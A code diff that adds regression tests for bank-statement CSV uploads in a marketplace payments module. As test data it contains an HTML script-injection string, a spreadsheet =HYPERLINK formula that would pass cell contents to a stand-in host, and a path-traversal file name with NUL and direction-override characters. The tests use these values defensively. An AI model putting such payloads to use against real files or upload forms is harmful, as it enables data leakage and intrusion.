@@ -6,7 +6,7 @@ import io
 from sqlalchemy import select
 
 from marketplace.payments import ledger, statements
-from marketplace.payments.models import PaymentTransaction
+from marketplace.payments.models import BankStatement, PaymentTransaction
 from tests.payments.conftest import post_form
 
 UPLOAD = "/payments/manage/statements"
@@ -117,3 +117,38 @@ def test_english_headers_semicolons_and_iso_dates_are_read(db):
 def test_only_organisers_may_import_statements(client, login, make_user, db):
     login(make_user("producer"))
     assert client.get(UPLOAD).status_code == 403
+
+
+def test_a_file_that_is_not_a_table_is_refused_with_a_reason_not_a_server_error(client, login, make_user, db):
+    """Regression (upload sweep): the CSV sniffer gave up on HTML, a photo or one long line and the
+    upload answered 500."""
+    login(make_user("organiser", locale="en"))
+
+    for content in ("<!doctype html><script>alert(1)</script>", "GIF89a", "just one line of text"):
+        response = upload(client, content)
+        assert response.status_code == 422, content
+        assert "columns date, amount and description" in response.get_data(as_text=True)
+    assert db.session.scalars(select(BankStatement)).all() == []
+
+
+def test_a_description_quoted_with_commas_and_quotes_is_read_as_text(db):
+    """Regression (upload sweep): such a cell made the sniffer give up (500); a leading = stays text."""
+    content = 'Ngày,Số tiền,Nội dung\r\n12/03/2026,1.000.000,"=HYPERLINK(""http://x.example/?q=""&A1,""CK A01"")"\r\n'
+
+    [line] = statements.read_statement(content)
+
+    assert (line.amount_vnd, line.description) == (1_000_000, '=HYPERLINK("http://x.example/?q="&A1,"CK A01")')
+
+
+def test_a_statement_with_nul_characters_or_a_hostile_name_is_handled(client, login, make_user, db):
+    """Regression (upload sweep): NUL in the text or in the file's name was a 500 on PostgreSQL."""
+    login(make_user("organiser", locale="en"))
+
+    nul_inside = upload(client, csv_for(("12/03/2026", "1.000.000", "CK\x00 A01")))
+    named = upload(client, csv_for(("12/03/2026", "1.000.000", "CK A01")), name="../../sao\x00ke\u202e.csv")
+
+    assert nul_inside.status_code == 422
+    assert "Save the statement as CSV in UTF-8." in nul_inside.get_data(as_text=True)
+    assert named.status_code == 303
+    [statement] = db.session.scalars(select(BankStatement)).all()
+    assert statement.filename == "saoke.csv"
